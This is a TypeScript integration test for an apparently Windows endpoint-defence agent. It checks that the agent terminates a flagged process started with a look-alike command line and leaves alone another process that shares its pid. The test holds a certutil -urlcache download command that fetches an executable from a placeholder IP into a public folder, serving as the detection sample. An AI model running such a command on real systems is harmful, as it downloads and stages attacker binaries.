import assert from 'node:assert/strict';
import { once } from 'node:events';
import { after, test } from 'node:test';
import { defaultFfi, ProcessControl } from '../../../src/windows/index.ts';
import { AgentFolder, until } from './agent-process.ts';
import { DoubleScript } from './double-script.ts';
import { LookAlike } from './look-alike.ts';
import { openTestLibrary } from './open-test-library.ts';

/*
 * The whole agent, in a process of its own, on real processes of this machine: their starts reach it through the
 * double of ETW with their true identity, everything from there on is the product's.
 */
const attack = ['-urlcache', '-split', '-f', 'http://203.0.113.7/a.exe', 'c:\\users\\public\\a.exe'];
const secondTicks = 10_000_000n;

const control = new ProcessControl(await openTestLibrary(defaultFfi()));
const victims: LookAlike[] = [];
after(() => {
  for (const victim of victims) victim.kill();
});

function startVictim(): LookAlike {
  const victim = new LookAlike('certutil.exe', attack);
  victims.push(victim);
  return victim;
}

/** Runs an agent with this response while `use` is at work, and gives back what it recorded about actions. */
async function withAgent(
  response: Readonly<Record<string, unknown>>,
  use: (etw: DoubleScript, folder: AgentFolder) => Promise<void>,
): Promise<void> {
  const etw = new DoubleScript('etw');
  const folder = new AgentFolder(etw.path, { response });
  const agent = folder.start();
  const ended = once(agent, 'exit');
  try {
    etw.say('running', process.pid, 4, 0, '\\Device\\HarddiskVolume3\\Windows\\explorer.exe', 'explorer.exe');
    // The parent must be known before its child starts.
    await until('the agent runs', () => folder.said('stderr').includes('Started'));
    await use(etw, folder);
  } catch (error) {
    throw new Error(`${String(error)}\n${folder.said('stderr')}\n${JSON.stringify(folder.record())}`);
  } finally {
    folder.stop();
    await ended;
  }
}

function actionsOn(folder: AgentFolder, { pid }: LookAlike) {
  return folder
    .record()
    .filter(({ event, process: p }) => event['dataset'] === 'problemchild.action' && p?.pid === pid)
    .map(({ event, problemchild }) => ({
      action: event['action'],
      outcome: event['outcome'],
      refused: problemchild?.['refused'],
    }));
}

test('armed to terminate: the flagged process is ended, the same pid of another creation time is not', async () => {
  await withAgent({ mode: 'terminate' }, async (etw, folder) => {
    const other = startVictim();
    await other.sayStart(etw, control, -secondTicks);
    await until('the refusal', () => actionsOn(folder, other).length > 0);
    assert.deepEqual(actionsOn(folder, other), [
      { action: 'terminate', outcome: 'failure', refused: 'PC_REFUSED_IDENTITY' },
    ]);
    const victim = startVictim();
    await victim.sayStart(etw, control);
    await until('the action', () => actionsOn(folder, victim).length > 0);
    assert.deepEqual(actionsOn(folder, victim), [
      { action: 'terminate', outcome: 'success', refused: undefined },
    ]);
    await until('its end', () => victim.hasEnded);
    assert.ok(await other.beats(), 'the other process is untouched');
  });
});
